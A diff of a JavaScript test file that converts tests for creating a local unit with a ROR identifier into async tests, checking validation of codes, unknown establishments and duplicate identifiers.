-    expect(() => createUnit(db, { ...creation, idRor: 'ROR-UNIT-ESAT-1' }, at)).toThrow(/déjà/);
-    const unit = createUnit(db, creation, at);
-    expect(unit).toMatchObject({ origin: 'local', locallyEdited: true, finessEg: eg, missing: [] });
-    expect(listUnits(db, eg).map((u) => u.idRor)).toContain('ROR-UNIT-LOCALE-1');
-    expect(() => createUnit(db, creation, at)).toThrow(/déjà/);
+    it('adds a local unit with its ROR identifier, validated like an edit, once per identifier and known EG', async () => {
+      await seedWorklist(db, { count: 1, today: TODAY });
+      const eg = SEED_EGS[0].finessEg;
+      const creation = {
+        finessEg: eg,
+        idRor: 'ROR-UNIT-LOCALE-1',
+        name: 'Atelier repassage',
+        categorieOrganisation: '43',
+        temporaliteAccueil: null,
+        accueilSequentiel: false,
+        modePriseCharge: '47',
+      };
+      const at = now().toISOString();
+      await expect(createUnit(db, { ...creation, modePriseCharge: '11' }, at)).rejects.toThrow(/JDV_J19/);
+      await expect(createUnit(db, { ...creation, finessEg: '999999999' }, at)).rejects.toThrow(/inconnu/);
+      await expect(createUnit(db, { ...creation, idRor: 'ROR-UNIT-ESAT-1' }, at)).rejects.toThrow(/déjà/);
+      const unit = await createUnit(db, creation, at);
+      expect(unit).toMatchObject({ origin: 'local', locallyEdited: true, finessEg: eg, missing: [] });
+      expect((await listUnits(db, eg)).map((u) => u.idRor)).toContain('ROR-UNIT-LOCALE-1');
+      await expect(createUnit(db, creation, at)).rejects.toThrow(/déjà/);
+    });
   });
 });
